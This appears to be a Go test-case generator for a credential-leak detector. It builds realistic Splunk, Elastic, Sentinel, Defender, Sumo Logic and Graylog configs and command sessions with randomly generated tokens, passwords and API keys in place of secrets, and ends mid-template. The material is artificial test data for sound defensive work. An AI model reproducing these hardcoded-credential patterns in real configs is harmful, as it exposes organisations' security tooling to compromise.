package cases

import (
	"fmt"
	"strings"
)

// secopsCases adds credentials from security operations tooling as a blue
// team's coding agent meets them while it wires a log pipeline, scripts an
// EDR or SOAR integration, enriches an alert or writes up an incident.
// Sources: SIEMs and log pipelines (Splunk HEC tokens, REST logins, session
// keys, authentication tokens, inputs.conf, outputs.conf, passwords.conf,
// splunk.secret, the Docker image, the OTel collector, Fluent Bit and
// Vector sinks; Elastic API keys, enrollment and Fleet service tokens,
// elasticsearch-reset-password, Beats, Logstash and Kibana settings;
// Microsoft Sentinel and Log Analytics workspace keys, the Data Collector
// API and the Logs Ingestion API; Sumo Logic access ids and keys and HTTP
// source URLs; Graylog; QRadar SEC tokens; Datadog Cloud SIEM; Panther;
// Chronicle / Google SecOps service accounts and forwarders; Cribl), EDR
// and XDR APIs (CrowdStrike
// Falcon with FalconPy, PSFalcon and falconctl; SentinelOne API and site
// tokens; Defender for Endpoint app secrets; Carbon Black Cloud; Sophos
// Central; Wazuh API, client.keys and agent enrollment passwords; osquery
// and Fleet enroll secrets and API tokens; Velociraptor configs), SOAR and
// case management (Cortex XSOAR and XDR API keys, demisto-sdk, TheHive,
// Cortex analyzers, Shuffle, Tines), threat intelligence (MISP, PyMISP,
// OpenCTI, VirusTotal, Shodan, Censys, GreyNoise, AbuseIPDB, urlscan.io,
// AlienVault OTX, IntelOwl), vulnerability scanners (Tenable, pyTenable,
// Nessus agents, Qualys, Rapid7 InsightVM and the Insight Agent, OpenVAS
// and gvm-tools), identity threat tooling (Okta API tokens, Entra ID app
// secrets, Duo Admin API), honeypots and canaries (Thinkst Canary,
// Canarytokens, OpenCanary, Cowrie, T-Pot), network security monitoring
// (Suricata, Zeek, Arkime), detection content (Sigma, YARA, Splunk and
// KQL searches, gitleaks rules, detection unit tests whose fixtures hold a
// real leaked value), and incident reports, timelines, tickets and chats
// that quote leaked credentials. Benign look-alikes: IOCs (file hashes,
// IPs, domains, JA3 fingerprints), rule, alert, incident, sensor, agent,
// device and customer ids, detection regexes, example keys, masked
// previews, ciphertext and public keys and certificates. The case names
// start with "secops/".
func (g *G) secopsCases() {
	g.sopSplunk()
	g.sopElastic()
	g.sopSentinel()
	g.sopSumoGraylogQRadar()
	g.sopChronicleCribl()
	g.sopCrowdStrike()
	g.sopEDR()
	g.sopWazuhOsquery()
	g.sopVelociraptor()
	g.sopSOAR()
	g.sopIntel()
	g.sopVuln()
	g.sopIdentity()
	g.sopHoney()
	g.sopNSM()
	g.sopRules()
	g.sopIncident()
	g.sopBenign()
}

// ---- helpers used only here ----

// sopAdd is add with "ˋ" standing for a backtick.
func (g *G) sopAdd(name, tmpl string, v V, benign ...string) {
	bt := func(s string) string { return strings.ReplaceAll(s, "ˋ", "`") }
	for i := range benign {
		benign[i] = bt(benign[i])
	}
	g.add(name, bt(tmpl), v, benign...)
}

// sopIP is a public-looking address seen in an alert (benign).
func (g *G) sopIP() string {
	return fmt.Sprintf("%s.%d.%d.%d", g.pick("45", "91", "103", "185", "193", "194", "176", "89"), 1+g.r.IntN(250), g.r.IntN(256), 2+g.r.IntN(250))
}

// sopLAN is an internal address (benign).
func (g *G) sopLAN() string {
	return fmt.Sprintf("10.%d.%d.%d", g.r.IntN(40), g.r.IntN(256), 2+g.r.IntN(250))
}

// sopHEC is a Splunk HEC token (a GUID, sometimes upper case).
func (g *G) sopHEC() string {
	if g.r.IntN(2) == 0 {
		return strings.ToUpper(g.uuid())
	}
	return g.uuid()
}

// sopSplunkSession is a session key from /services/auth/login.
func (g *G) sopSplunkSession() string {
	return g.s(alAlnum+"^_", 12) + "^" + g.s(alAlnum+"_", 150) + "^" + g.s(alAlnum, 20)
}

// sopSplunkJWT is a Splunk authentication token.
func (g *G) sopSplunkJWT(user, aud string) string {
	iat := 1717000000 + g.r.IntN(20000000)
	h := b64raw(`{"kid":"splunk.secret","alg":"HS512","ver":"v2","ttyp":"static"}`)
	p := b64raw(fmt.Sprintf(`{"iss":"admin from sh-i-%s","sub":"%s","aud":"%s","idp":"Splunk","jti":"%s","iat":%d,"exp":%d,"nbr":%d}`,
		g.hex(17), user, aud, g.hex(64), iat, iat+15552000, iat))
	return h + "." + p + "." + g.b64u(86)
}

// sopSplunkEnc is a $7$ encrypted value of a Splunk conf file (ciphertext).
func (g *G) sopSplunkEnc() string { return "$7$" + g.b64(42) }

// sopESKeyID is an Elasticsearch API key id (benign).
func (g *G) sopESKeyID() string { return g.b64u(20) }

// sopFleetToken is an Elastic Fleet Server service token.
func (g *G) sopFleetToken() string {
	return b64raw(fmt.Sprintf("\x00\x01\x00\x01elastic/fleet-server/token-%d:%s", 1717000000000+g.r.IntN(9000000000), g.b64u(22)))
}

// sopCSID is a CrowdStrike API client id (32 hex).
func (g *G) sopCSID() string { return g.hex(32) }

// sopCSSecret is a CrowdStrike API client secret (40 alnum).
func (g *G) sopCSSecret() string { return g.an(40) }

// sopCID is a Falcon customer id with its checksum.
func (g *G) sopCID() string { return g.s(alHexU, 32) + "-" + g.s(alHexU, 2) }

// sopJWT is a generic bearer JWT with an ES or RS signature.
func (g *G) sopJWT(alg, payload string) string {
	h := b64raw(`{"alg":"` + alg + `","typ":"JWT"}`)
	n := 86
	if strings.HasPrefix(alg, "RS") {
		n = 342
	}
	if alg == "ES512" {
		n = 176
	}
	return h + "." + b64raw(payload) + "." + g.b64u(n)
}

// sopSHA256 and friends are file hashes of samples (benign IOCs).
func (g *G) sopSHA256() string { return g.hex(64) }
func (g *G) sopMD5() string    { return g.hex(32) }
func (g *G) sopSHA1() string   { return g.hex(40) }

// sopDomain is a malicious-looking domain from an alert (benign IOC).
func (g *G) sopDomain() string {
	return g.pick("login-", "secure-", "update-", "cdn-", "auth-") + g.s(alLower, 6+g.r.IntN(4)) + g.pick(".top", ".xyz", ".online", ".click", ".site", ".icu")
}

// ---- Splunk ----

func (g *G) sopSplunk() {
	g.add("secops/splunk-hec-curl-test-event", `
$ curl -k https://splunk-hec.corp.acme.io:8088/services/collector/event \
    -H "Authorization: Splunk «a»" \
    -d '{"event": "hello from soc-automation", "sourcetype": "manual", "index": "sec_test"}'
{"text":"Success","code":0}
$ curl -k https://splunk-hec.corp.acme.io:8088/services/collector/health
{"text":"HEC is healthy","code":17}
`, V{"a": g.sopHEC()}, "splunk-hec.corp.acme.io:8088", "HEC is healthy")

	g.add("secops/splunk-inputs-conf-http-stanzas", `
# $SPLUNK_HOME/etc/apps/splunk_httpinput/local/inputs.conf
[http]
disabled = 0
enableSSL = 1
port = 8088

[http://edr_falcon_stream]
disabled = 0
index = edr
indexes = edr,edr_raw
sourcetype = crowdstrike:events:sensor
token = «a»
useACK = 1

[http://cloudtrail_firehose]
disabled = 0
index = aws
sourcetype = aws:cloudtrail
token = «b»
`, V{"a": g.sopHEC(), "b": g.sopHEC()}, "[http://edr_falcon_stream]", "crowdstrike:events:sensor")

	g.add("secops/splunk-outputs-conf-ssl-password", `
# /opt/splunkforwarder/etc/system/local/outputs.conf
[tcpout]
defaultGroup = primary_indexers

[tcpout:primary_indexers]
server = idx01.siem.acme.internal:9997, idx02.siem.acme.internal:9997
clientCert = $SPLUNK_HOME/etc/auth/mycerts/uf-client.pem
sslPassword = «a»
sslVerifyServerCert = true
useACK = true

[indexer_discovery:cluster1]
pass4SymmKey = «b»
master_uri = https://cm01.siem.acme.internal:8089
`, V{"a": g.pw(), "b": g.pwStrong()}, "idx01.siem.acme.internal:9997", "[indexer_discovery:cluster1]")

	g.add("secops/splunk-rest-login-session-key", `
$ curl -k https://sh01.siem.acme.internal:8089/services/auth/login -d username=svc_soar -d password='«a»'
<response>
  <sessionKey>«b»</sessionKey>
  <messages>
    <msg code=""></msg>
  </messages>
</response>
$ curl -k -H "Authorization: Splunk «b»" https://sh01.siem.acme.internal:8089/services/search/jobs -d search="search index=notable | head 5"
<?xml version="1.0" encoding="UTF-8"?>
<response>
  <sid>«_sid»</sid>
</response>
`, V{"a": g.pw(), "b": g.sopSplunkSession(), "_sid": fmt.Sprintf("%d.%d", 1717000000+g.r.IntN(20000000), 1000+g.r.IntN(90000))}, "svc_soar", "index=notable")

	g.add("secops/splunk-auth-token-bearer-python", `
import requests

SPLUNK = "https://acme-sec.splunkcloud.com:8089"
TOKEN = "«a»"

def run_search(spl: str):
    r = requests.post(
        f"{SPLUNK}/services/search/v2/jobs/export",
        headers={"Authorization": f"Bearer {TOKEN}"},
        data={"search": spl, "output_mode": "json", "earliest_time": "-24h"},
        timeout=60,
    )
    r.raise_for_status()
    return r.text
`, V{"a": g.sopSplunkJWT("svc_detect_ci", "detections-as-code")}, "acme-sec.splunkcloud.com:8089", "/services/search/v2/jobs/export")

	g.sopAdd("secops/splunk-passwords-conf-and-secret", `
$ cat $SPLUNK_HOME/etc/apps/TA-crowdstrike-falcon-event-streams/local/passwords.conf
[credential:TA-crowdstrike-falcon-event-streams:falcon_apiˋˋsplunk_cred_sepˋˋ1:]
password = «_e1»

[credential:TA-crowdstrike-falcon-event-streams:falcon_apiˋˋsplunk_cred_sepˋˋ2:]
password = «_e2»
$ cat $SPLUNK_HOME/etc/auth/splunk.secret
«a»
`, V{"_e1": g.sopSplunkEnc(), "_e2": g.sopSplunkEnc(), "a": g.s(alAlnum+"./", 254)}, "TA-crowdstrike-falcon-event-streams")

	g.add("secops/splunk-docker-run-env", `
$ docker run -d --name so1 -p 8000:8000 -p 8088:8088 -p 8089:8089 \
    -e SPLUNK_START_ARGS=--accept-license \
    -e SPLUNK_GENERAL_TERMS=--accept-sgt-current-at-splunk-com \
    -e SPLUNK_PASSWORD='«a»' \
    -e SPLUNK_HEC_TOKEN=«b» \
    splunk/splunk:9.3
«_cid»
`, V{"a": g.pw(), "b": g.sopHEC(), "_cid": g.hex(64)}, "splunk/splunk:9.3", "SPLUNK_START_ARGS=--accept-license")

	g.add("secops/splunk-otel-collector-helm-values", `
# values-prod.yaml for splunk-otel-collector-chart
clusterName: eks-payments-prod
splunkPlatform:
  endpoint: "https://splunk-hec.corp.acme.io:8088/services/collector"
  token: "«a»"
  index: "k8s_logs"
  metricsIndex: "k8s_metrics"
  insecureSkipVerify: false
splunkObservability:
  realm: us1
  accessToken: "«b»"
logsEngine: otel
agent:
  resources:
    limits:
      memory: 500Mi
`, V{"a": g.sopHEC(), "b": g.b64u(22)}, "eks-payments-prod", "realm: us1")

	g.add("secops/splunk-fluent-bit-output", `
[OUTPUT]
    Name              splunk
    Match             kube.*
    Host              splunk-hec.corp.acme.io
    Port              8088
    TLS               On
    TLS.Verify        Off
    Splunk_Token      «a»
    Splunk_Send_Raw   Off
    event_index       k8s_audit
    event_sourcetype  kube:apiserver:audit
`, V{"a": g.sopHEC()}, "kube:apiserver:audit")

	g.add("secops/splunk-vector-sink-toml", `
[sinks.splunk_sec]
type = "splunk_hec_logs"
inputs = ["parse_sysmon", "parse_auditd"]
endpoint = "https://http-inputs-acme-sec.splunkcloud.com:443"
default_token = "«a»"
index = "os_security"
encoding.codec = "json"
acknowledgements.enabled = true

[sinks.splunk_sec.buffer]
type = "disk"
max_size = 1073741824
`, V{"a": g.sopHEC()}, "http-inputs-acme-sec.splunkcloud.com:443", "parse_sysmon")

	g.add("secops/splunk-sdk-python-connect", `
import splunklib.client as client
import splunklib.results as results

service = client.connect(
    host="sh01.siem.acme.internal",
    port=8089,
    username="svc_threat_hunt",
    password="«a»",
    app="SplunkEnterpriseSecuritySuite",
    owner="nobody",
)
for item in results.JSONResultsReader(service.jobs.oneshot("| tstats count from datamodel=Endpoint.Processes by Processes.dest", output_mode="json")):
    print(item)
`, V{"a": g.pw()}, "svc_threat_hunt", "SplunkEnterpriseSecuritySuite")

	g.add("secops/splunk-hec-token-list-rest", `
$ curl -sk -u admin:'«a»' "https://sh01.siem.acme.internal:8089/servicesNS/nobody/splunk_httpinput/data/inputs/http?output_mode=json" | jq -r '.entry[] | [.name, .content.index, .content.token] | @tsv'
http://cloudflare_logpush	cloudflare	«b»
http://okta_syslog	okta	«c»
http://gha_audit	github	«d»
`, V{"a": g.pwStrong(), "b": g.sopHEC(), "c": g.sopHEC(), "d": g.sopHEC()}, "http://okta_syslog", "servicesNS/nobody/splunk_httpinput")

	g.add("secops/splunk-acs-create-token", `
$ acs login --token-user sc_admin
Enter Password: 
Successfully logged in.
$ acs http-event-collectors create --name github-audit-stream --default-index github --allowed-indexes github
{
    "http-event-collector": {
        "spec": {
            "allowedIndexes": ["github"],
            "defaultIndex": "github",
            "defaultSource": "",
            "defaultSourcetype": "",
            "disabled": false,
            "name": "github-audit-stream",
            "useAck": false
        },
        "token": "«a»"
    }
}
`, V{"a": g.sopHEC()}, "github-audit-stream", "sc_admin")

	g.add("secops/splunk-deployment-server-serverclass-pass4symmkey", `
# etc/system/local/server.conf on a heavy forwarder
[general]
serverName = hf01-dmz
pass4SymmKey = «_e»

[sslConfig]
sslPassword = «_e2»

# and the plain-text one an admin left while bootstrapping:
[clustering]
mode = searchhead
manager_uri = https://cm01.siem.acme.internal:8089
pass4SymmKey = «a»
`, V{"_e": g.sopSplunkEnc(), "_e2": g.sopSplunkEnc(), "a": g.pwURL()}, "hf01-dmz", "manager_uri = https://cm01.siem.acme.internal:8089")

	g.add("secops/splunk-soar-asset-config-json", `
{
  "name": "splunk_es_prod",
  "product_vendor": "Splunk",
  "product_name": "Splunk Enterprise",
  "configuration": {
    "device": "sh01.siem.acme.internal",
    "port": "8089",
    "username": "svc_soar",
    "password": "«a»",
    "api_token": "«b»",
    "verify_server_cert": true,
    "timezone": "UTC"
  },
  "tags": ["prod", "siem"]
}
`, V{"a": g.pwStrong(), "b": g.sopSplunkJWT("svc_soar", "soar-prod")}, "splunk_es_prod", "svc_soar")
}

// ---- Elastic ----

func (g *G) sopElastic() {
	id, key := g.sopESKeyID(), g.b64u(22)
	g.add("secops/elastic-create-api-key-response", `
POST /_security/api_key
{
  "name": "soar-enrichment",
  "expiration": "90d",
  "role_descriptors": {
    "read-alerts": {
      "indices": [{"names": [".alerts-security.alerts-*", "logs-endpoint.*"], "privileges": ["read"]}]
    }
  }
}

# response
{
  "id": "«_id»",
  "name": "soar-enrichment",
  "expiration": 1725012345678,
  "api_key": "«a»",
  "encoded": "«b»"
}
`, V{"_id": id, "a": key, "b": b64s(id + ":" + key)}, ".alerts-security.alerts-*", "soar-enrichment")

	g.add("secops/elastic-agent-install-enroll", `
PS C:\Windows\Temp\elastic-agent-8.15.1-windows-x86_64> .\elastic-agent.exe install --url=https://fleet.sec.acme.io:8220 --enrollment-token=«a» --tag=workstation --tag=finance
Elastic Agent will be installed at C:\Program Files\Elastic\Agent and will run as a service. Do you want to continue? [Y/n]:Y
[====] Service Started  [31s] Elastic Agent successfully installed, starting enrollment.
{"log.level":"info","@timestamp":"2024-09-12T09:14:02.118Z","log.origin":{"function":"github.com/elastic/elastic-agent/internal/pkg/agent/cmd.(*enrollCmd).enrollWithBackoff"},"message":"Successfully triggered restart on running Elastic Agent.","ecs.version":"1.6.0"}
Successfully enrolled the Elastic Agent.
Elastic Agent has been successfully installed.
PS> & "C:\Program Files\Elastic\Agent\elastic-agent.exe" status
┌─ fleet
│  └─ status: (HEALTHY) Connected
└─ elastic-agent
   └─ status: (HEALTHY) Running
agent id: «_aid»
`, V{"a": g.esAPIKey(), "_aid": g.uuid()}, "fleet.sec.acme.io:8220", "--tag=workstation")

	g.add("secops/elastic-fleet-server-service-token", `
$ sudo ./elastic-agent install \
  --fleet-server-es=https://es01.sec.acme.internal:9200 \
  --fleet-server-service-token=«a» \
  --fleet-server-policy=fleet-server-policy \
  --fleet-server-es-ca-trusted-fingerprint=«_fp» \
  --fleet-server-port=8220
`, V{"a": g.sopFleetToken(), "_fp": g.hex(64)}, "--fleet-server-policy=fleet-server-policy")

	g.add("secops/elastic-reset-password-output", `
$ docker exec -it es01 /usr/share/elasticsearch/bin/elasticsearch-reset-password -u elastic -b
Password for the [elastic] user successfully reset.
New value: «a»
$ docker exec -it es01 /usr/share/elasticsearch/bin/elasticsearch-reset-password -u kibana_system -b
Password for the [kibana_system] user successfully reset.
New value: «b»
`, V{"a": g.s(alAlnum+"_*-+=", 20), "b": g.s(alAlnum+"_*-+=", 20)}, "Password for the [kibana_system] user successfully reset.")

	g.sopAdd("secops/elastic-enrollment-token-first-start", `
✅ Elasticsearch security features have been automatically configured!
✅ Authentication is enabled and cluster connections are encrypted.

ℹ️  Password for the elastic user (reset with ˋbin/elasticsearch-reset-password -u elasticˋ):
  «a»

ℹ️  HTTP CA certificate SHA-256 fingerprint:
  «_fp»

ℹ️  Configure Kibana to use this cluster:
• Run Kibana and click the configuration link in the terminal when Kibana starts.
• Copy the following enrollment token and paste it into Kibana in your browser (valid for the next 30 minutes):
  «b»
`, V{"a": g.s(alAlnum+"_*-+=", 20), "_fp": g.hex(64), "b": b64s(fmt.Sprintf(`{"ver":"8.15.0","adr":["172.18.0.2:9200"],"fgr":"%s","key":"%s:%s"}`, g.hex(64), g.sopESKeyID(), g.b64u(22)))}, "HTTP CA certificate SHA-256 fingerprint:")

	g.add("secops/elastic-filebeat-yml-api-key", `
filebeat.inputs:
  - type: filestream
    id: zeek-conn
    paths: ["/opt/zeek/logs/current/conn.log"]
    parsers:
      - ndjson: {target: "", overwrite_keys: true}

cloud.id: "«_cloud»"
output.elasticsearch:
  api_key: "«_kid»:«a»"
  ssl.verification_mode: full

setup.ilm.enabled: false
`, V{"_cloud": "sec-prod:" + b64s("us-east-1.aws.found.io:443$"+g.hex(32)+"$"+g.hex(32)), "_kid": g.sopESKeyID(), "a": g.b64u(22)}, "zeek-conn", "/opt/zeek/logs/current/conn.log")

	g.add("secops/elastic-kibana-yml-keys", `
server.publicBaseUrl: "https://kibana.sec.acme.io"
elasticsearch.hosts: ["https://es01.sec.acme.internal:9200"]
elasticsearch.username: "kibana_system"
elasticsearch.password: "«a»"
elasticsearch.ssl.certificateAuthorities: ["/etc/kibana/certs/ca.crt"]
xpack.encryptedSavedObjects.encryptionKey: "«b»"
xpack.reporting.encryptionKey: "«c»"
xpack.security.encryptionKey: "«d»"
xpack.fleet.agents.fleet_server.hosts: ["https://fleet.sec.acme.io:8220"]
`, V{"a": g.pwStrong(), "b": g.hex(32), "c": g.an(32), "d": g.hex(32)}, "kibana_system", "/etc/kibana/certs/ca.crt")

	g.add("secops/elastic-logstash-pipeline-literal", `
# /etc/logstash/conf.d/30-output-sec.conf
output {
  if [event][module] == "suricata" {
    elasticsearch {
      hosts => ["https://es01.sec.acme.internal:9200", "https://es02.sec.acme.internal:9200"]
      user => "logstash_writer"
      password => "«a»"
      data_stream => "true"
      ssl_certificate_authorities => ["/etc/logstash/certs/ca.crt"]
    }
  } else {
    elasticsearch {
      hosts => ["https://es01.sec.acme.internal:9200"]
      api_key => "${ES_API_KEY}"
    }
  }
}
`, V{"a": g.pw()}, "logstash_writer", "${ES_API_KEY}")

	g.add("secops/elastic-detection-rules-kibana-config", `
$ cat ~/.detection-rules-cfg.json
{
  "cloud_id": "«_cloud»",
  "kibana_url": "https://kibana.sec.acme.io",
  "api_key": "«a»",
  "space": "soc"
}
$ python -m detection_rules kibana --space soc export-rules -d dac/rules/ --skip-errors
- skipping rule «_rid»: no changes
`, V{"_cloud": "soc:" + b64s("eu-west-1.aws.found.io:443$"+g.hex(32)+"$"+g.hex(32)), "a": g.esAPIKey(), "_rid": g.uuid()}, "kibana.sec.acme.io", "export-rules")

	g.add("secops/elastic-curl-apikey-header-alerts", `
$ curl -s -H "Authorization: ApiKey «a»" -H 'Content-Type: application/json' \
    "https://es01.sec.acme.internal:9200/.alerts-security.alerts-default/_search?size=1" \
    -d '{"query":{"term":{"kibana.alert.rule.rule_id":"«_rid»"}}}' | jq '.hits.hits[0]._source | {"host.name", "kibana.alert.uuid"}'
{
  "host.name": "fin-ws-0142",
  "kibana.alert.uuid": "«_au»"
}
`, V{"a": g.esAPIKey(), "_rid": g.uuid(), "_au": g.hex(64)}, "fin-ws-0142")

	g.add("secops/elastic-docker-compose-env-file", `
# elastic-stack/.env
STACK_VERSION=8.15.1
CLUSTER_NAME=soc-lab
ELASTIC_PASSWORD=«a»
KIBANA_PASSWORD=«b»
ES_PORT=127.0.0.1:9200
KIBANA_PORT=5601
LICENSE=basic
MEM_LIMIT=4294967296
ENCRYPTION_KEY=«c»
`, V{"a": g.pwURL(), "b": g.pwURL(), "c": g.hex(64)}, "CLUSTER_NAME=soc-lab")

	g.add("secops/elastic-agent-policy-output-yaml", `
$ cat /opt/Elastic/Agent/elastic-agent.yml
outputs:
  default:
    type: elasticsearch
    hosts:
      - 'https://es01.sec.acme.internal:9200'
    username: 'elastic'
    password: '«a»'
    ssl.ca_trusted_fingerprint: «_fp»
agent:
  monitoring:
    enabled: true
    logs: true
inputs:
  - id: endpoint-«_pid»
    type: endpoint
    use_output: default
`, V{"a": g.pw(), "_fp": g.hex(64), "_pid": g.uuid()}, "ssl.ca_trusted_fingerprint")
}

// ---- Microsoft Sentinel and Log Analytics ----

func (g *G) sopSentinel() {
	g.sopAdd("secops/sentinel-data-collector-powershell", `
# Send-SentinelEvent.ps1 (HTTP Data Collector API, table SOCAutomation_CL)
$CustomerId = "«_ws»"
$SharedKey  = "«a»"
$LogType    = "SOCAutomation"

Function Build-Signature ($customerId, $sharedKey, $date, $contentLength, $method, $contentType, $resource) {
    $xHeaders = "x-ms-date:" + $date
    $stringToHash = $method + "ˋn" + $contentLength + "ˋn" + $contentType + "ˋn" + $xHeaders + "ˋn" + $resource
    $bytesToHash = [Text.Encoding]::UTF8.GetBytes($stringToHash)
    $keyBytes = [Convert]::FromBase64String($sharedKey)
    $sha256 = New-Object System.Security.Cryptography.HMACSHA256
    $sha256.Key = $keyBytes
    $encodedHash = [Convert]::ToBase64String($sha256.ComputeHash($bytesToHash))
    return 'SharedKey {0}:{1}' -f $customerId, $encodedHash
}
`, V{"_ws": g.uuid(), "a": g.b64(64)}, "SOCAutomation", "Build-Signature")

	g.add("secops/sentinel-omsagent-onboard", `
$ wget https://raw.githubusercontent.com/Microsoft/OMS-Agent-for-Linux/master/installer/scripts/onboard_agent.sh
$ sudo sh onboard_agent.sh -w «_ws» -s «a» -d opinsights.azure.com
Installing the OMS agent for Linux...
omsagent: Onboarding with workspace «_ws»... Success!
Done with onboarding for workspace «_ws».
`, V{"_ws": g.uuid(), "a": g.b64(64)}, "onboard_agent.sh", "opinsights.azure.com")

	g.add("secops/sentinel-az-cli-shared-keys", `
$ az monitor log-analytics workspace get-shared-keys -g rg-sec-prod -n law-sentinel-prod
{
  "primarySharedKey": "«a»",
  "secondarySharedKey": "«b»"
}
$ az monitor log-analytics workspace show -g rg-sec-prod -n law-sentinel-prod --query customerId -o tsv
«_ws»
`, V{"a": g.b64(64), "b": g.b64(64), "_ws": g.uuid()}, "law-sentinel-prod", "rg-sec-prod")

	tenant, app := g.uuid(), g.uuid()
	g.add("secops/sentinel-logs-ingestion-python", `
from azure.identity import ClientSecretCredential
from azure.monitor.ingestion import LogsIngestionClient

cred = ClientSecretCredential(
    tenant_id="«_t»",
    client_id="«_app»",
    client_secret="«a»",
)
client = LogsIngestionClient(endpoint="https://dce-sec-prod-«=dce».westeurope-1.ingest.monitor.azure.com", credential=cred)
client.upload(rule_id="dcr-«_dcr»", stream_name="Custom-ThreatIntelIndicators_CL", logs=batch)
`, V{"_t": tenant, "_app": app, "a": g.azSecret(), "=dce": g.an(4), "_dcr": g.hex(32)}, "Custom-ThreatIntelIndicators_CL")

	g.add("secops/sentinel-arm-parameters-connector", `
{
  "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentParameters.json#",
  "contentVersion": "1.0.0.0",
  "parameters": {
    "workspaceName": { "value": "law-sentinel-prod" },
    "workspaceId": { "value": "«_ws»" },
    "workspaceKey": { "value": "«a»" },
    "okta_api_token": { "value": "SSWS «b»" },
    "okta_uri": { "value": "https://acme.okta.com/api/v1/logs?since=" },
    "appInsightsLocation": { "value": "westeurope" }
  }
}
`, V{"_ws": g.uuid(), "a": g.b64(64), "b": g.okta()}, "https://acme.okta.com/api/v1/logs?since=", "law-sentinel-prod")

	g.add("secops/sentinel-function-app-settings", `
$ az functionapp config appsettings list -g rg-sec-prod -n fa-sentinel-cs-fdr -o table
Name                                   SlotSetting    Value
-------------------------------------  -------------  ----------------------------------------------------------------
FUNCTIONS_WORKER_RUNTIME               False          python
WorkspaceId                            False          «_ws»
WorkspaceKey                           False          «a»
AWS_KEY                                False          «b»
AWS_SECRET                             False          «c»
QUEUE_URL                              False          https://sqs.us-west-1.amazonaws.com/«_acct»/cs-prod-fdr
WEBSITE_RUN_FROM_PACKAGE               False          1
`, V{"_ws": g.uuid(), "a": g.b64(64), "b": g.awsID(), "c": g.awsSecret(), "_acct": g.digits(12)}, "fa-sentinel-cs-fdr", "FUNCTIONS_WORKER_RUNTIME")

	g.sopAdd("secops/sentinel-kql-hunt-with-ids", `
// Hunting: sign-ins from the phishing kit's infra, incident «_inc»
SigninLogs
| where TimeGenerated > ago(7d)
| where IPAddress in ("«_ip1»", "«_ip2»")
| where AppId == "«_app»"
| project TimeGenerated, UserPrincipalName, IPAddress, CorrelationId, ResultType
| join kind=leftouter (AADNonInteractiveUserSignInLogs | project CorrelationId, TokenIssuerType) on CorrelationId
`, V{"_inc": g.uuid(), "_ip1": g.sopIP(), "_ip2": g.sopIP(), "_app": g.uuid()}, "AADNonInteractiveUserSignInLogs")

	g.add("secops/mde-api-token-script", `
#!/usr/bin/env python3
# mde_isolate.py - isolate a device from a SOAR playbook
import requests, sys

TENANT = "«_t»"
APP_ID = "«_app»"
APP_SECRET = "«a»"

tok = requests.post(f"https://login.microsoftonline.com/{TENANT}/oauth2/v2.0/token", data={
    "client_id": APP_ID, "client_secret": APP_SECRET, "grant_type": "client_credentials",
    "scope": "https://api.securitycenter.microsoft.com/.default",
}).json()["access_token"]

machine_id = sys.argv[1]  # e.g. «_mid»
r = requests.post(f"https://api.securitycenter.microsoft.com/api/machines/{machine_id}/isolate",
    headers={"Authorization": f"Bearer {tok}"},
    json={"Comment": "SOAR: isolation for IR-2291", "IsolationType": "Full"})
print(r.status_code, r.json().get("id"))
`, V{"_t": g.uuid(), "_app": g.uuid(), "a": g.azSecret(), "_mid": g.hex(40)}, "mde_isolate.py", "IR-2291")

	g.add("secops/mde-token-response-curl", `
$ curl -s -X POST https://login.microsoftonline.com/«_t»/oauth2/v2.0/token \
    -d client_id=«_app» \
    -d "client_secret=«a»" \
    -d grant_type=client_credentials \
    -d scope=https://api.securitycenter.microsoft.com/.default
{"token_type":"Bearer","expires_in":3599,"ext_expires_in":3599,"access_token":"«b»"}
`, V{"_t": g.uuid(), "_app": g.uuid(), "a": g.azSecret(), "b": g.sopJWT("RS256", fmt.Sprintf(`{"aud":"https://api.securitycenter.microsoft.com","iss":"https://sts.windows.net/%s/","roles":["Machine.Isolate","Alert.Read.All"],"appid":"%s"}`, g.uuid(), g.uuid()))}, "scope=https://api.securitycenter.microsoft.com/.default")
}

// ---- Sumo Logic, Graylog, QRadar ----

func (g *G) sopSumoGraylogQRadar() {
	g.add("secops/sumo-collector-user-properties", `
# /opt/SumoCollector/config/user.properties
name=bastion-01
accessid=«_id»
accesskey=«a»
ephemeral=false
sources=/opt/SumoCollector/config/sources.json
syncSources=/opt/SumoCollector/config/sources.json
clobber=true
`, V{"_id": "su" + g.an(12), "a": g.an(64)}, "bastion-01", "/opt/SumoCollector/config/sources.json")

	g.add("secops/sumo-http-source-url-curl", `
$ curl -v -X POST -H "X-Sumo-Category: prod/security/gha-audit" -T audit-batch.json \
    https://endpoint4.collection.us2.sumologic.com/receiver/v1/http/«a»
> POST /receiver/v1/http/«a» HTTP/1.1
> Host: endpoint4.collection.us2.sumologic.com
< HTTP/1.1 200 OK
`, V{"a": g.b64u(134) + "=="}, "prod/security/gha-audit")

	g.add("secops/sumo-api-basic-auth-search-job", `
$ export SUMO_ACCESS_ID=«_id»
$ export SUMO_ACCESS_KEY=«a»
$ curl -s -u "$SUMO_ACCESS_ID:$SUMO_ACCESS_KEY" -H 'Content-Type: application/json' \
    https://api.us2.sumologic.com/api/v1/search/jobs \
    -d '{"query":"_sourceCategory=prod/security/* \"failed password\" | count by src_ip","from":"2024-09-01T00:00:00","to":"2024-09-02T00:00:00","timeZone":"UTC"}'
{"id":"«_job»","link":{"rel":"self","href":"https://api.us2.sumologic.com/api/v1/search/jobs/«_job»"}}
`, V{"_id": "su" + g.an(12), "a": g.an(64), "_job": g.s(alHexU, 16)}, "api.us2.sumologic.com")

	g.add("secops/sumo-terraform-provider", `
provider "sumologic" {
  access_id   = "«_id»"
  access_key  = "«a»"
  environment = "us2"
}

resource "sumologic_cse_match_list" "vip_accounts" {
  name        = "vip_accounts"
  target_column = "Username"
  default_ttl = 0
}
`, V{"_id": "su" + g.an(12), "a": g.an(64)}, "sumologic_cse_match_list")

	g.add("secops/graylog-server-conf", `
# /etc/graylog/server/server.conf
is_leader = true
node_id_file = /etc/graylog/server/node-id
password_secret = «a»
root_username = admin
root_password_sha2 = «=h»
root_timezone = UTC
http_bind_address = 0.0.0.0:9000
elasticsearch_hosts = https://graylog:«b»@os01.logs.acme.internal:9200
mongodb_uri = mongodb://graylog:«c»@mongo01.logs.acme.internal:27017/graylog?replicaSet=rs01
`, V{"a": g.an(96), "=h": g.hex(64), "b": g.pwURL(), "c": g.pwURL()}, "node_id_file = /etc/graylog/server/node-id", "replicaSet=rs01")

	g.add("secops/graylog-api-token-curl", `
$ curl -s -u «a»:token -H 'Accept: application/json' -H 'X-Requested-By: cli' \
    'https://graylog.logs.acme.internal/api/search/universal/relative?query=event_id%3A4625&range=3600&limit=5&fields=source,TargetUserName'
